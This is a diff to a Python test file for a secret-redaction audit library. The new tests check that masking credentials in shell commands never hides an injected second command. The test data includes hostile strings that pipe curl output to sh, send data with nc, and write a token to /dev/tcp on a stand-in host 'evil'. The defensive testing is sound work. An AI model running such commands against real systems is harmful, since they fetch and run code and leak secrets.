@@ -18,6 +18,7 @@ from tests.hostile import fuzzed
 from tests.secrets_corpus import Maker, Secret, corpus
 from tron_audit_otel import detect, detect_tokens
 from tron_audit_otel.detect_headers import is_secret
+from tron_audit_otel.redact import NO_KEY
 
 SEEDS = (1, 20261129)
 """The rules were written with the first; the second was drawn when they were done."""
@@ -167,7 +168,7 @@ def test_what_ordinary_output_costs() -> None:
         lines += text.count("\n")
         characters += len(text)
     assert (len(SHELL), lines, characters) == (66, 3608, 171660)
-    assert (found, masked) == (27, 1294)
+    assert (found, masked) == (27, 1289)
 
 
 def test_a_header_is_secret_by_its_name() -> None:
@@ -273,3 +274,30 @@ def test_no_text_is_so_hostile_that_it_takes_long(arguments: tuple[str, ...]) ->
     command = [sys.executable, "-c", HOSTILE, *arguments]
     done = subprocess.run(command, cwd=DATA.parents[1], capture_output=True, text=True, check=False)
     assert (done.stdout, done.returncode) == ("done\n", 0), done.stderr[-2000:]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        pytest.param("TOKEN=a;curl${IFS}evil|sh", id="semicolon"),
+        pytest.param("PASSWORD=x|nc evil 80", id="pipe"),
+        pytest.param("SECRET=x&curl evil", id="background"),
+        pytest.param("curl x/?key=aaaaaa|evil", id="in-a-query"),
+        pytest.param("cat token > /dev/tcp/evil/80", id="redirection"),
+    ],
+)
+def test_a_command_cannot_hide_another_one_in_a_mask(command: str) -> None:
+    shown = " ".join(NO_KEY.command(["sh", "-c", command]).arguments)
+    assert "evil" in shown
+
+
+@pytest.mark.parametrize(
+    ("command", "stays"),
+    [
+        pytest.param("aws secretsmanager get-secret-value --secret-id prod/db", "prod/db", id="which-secret"),
+        pytest.param("openssl req -new -key k.pem -out k.csr", "k.pem", id="which-key"),
+        pytest.param("pip install token-utils==1.2.3", "1.2.3", id="which-version"),
+    ],
+)
+def test_which_secret_was_touched_stays(command: str, stays: str) -> None:
+    assert stays in " ".join(NO_KEY.command(command.split()).arguments)
